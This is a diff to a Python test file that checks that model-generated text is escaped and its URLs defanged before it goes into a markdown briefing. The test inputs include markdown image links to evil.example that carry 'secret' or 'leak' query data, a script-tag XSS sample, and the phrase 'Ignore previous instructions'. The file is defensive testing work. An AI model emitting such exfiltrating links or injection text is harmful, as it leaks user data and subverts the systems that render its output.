@@ -17,13 +17,14 @@ def seed(run: Run) -> Briefing:
 
 
 def test_markdown_syntax_in_model_text_is_escaped() -> None:
-    assert md("![x](https://evil.example/?q=secret)") == r"!\[x\](https\[:\]//evil.example/?q=secret)"
+    assert md("![x](https://evil.example/?q=secret)") == r"!\[x\](https\[:\]//evil\[.\]example/?q=secret)"
     assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
     assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"
 
 
 def test_urls_in_model_text_are_defanged_so_nothing_autolinks() -> None:
-    assert md("see https://evil.example and www.evil.example") == "see https\\[:\\]//evil.example and www\\[.\\]evil.example"
+    assert md("see https://evil.example and www.evil.example") == (
+        "see https\\[:\\]//evil\\[.\\]example and www\\[.\\]evil\\[.\\]example")
 
 
 def test_model_text_cannot_start_new_lines_headings_or_list_items() -> None:
@@ -41,7 +42,7 @@ def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
     first = markdown.splitlines()[0]
     assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
     assert "![chart](" not in markdown and "[click](" not in markdown
-    assert r"!\[chart\](https\[:\]//evil.example/leak?d=1)" in markdown
+    assert r"!\[chart\](https\[:\]//evil\[.\]example/leak?d=1)" in markdown
 
 
 def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
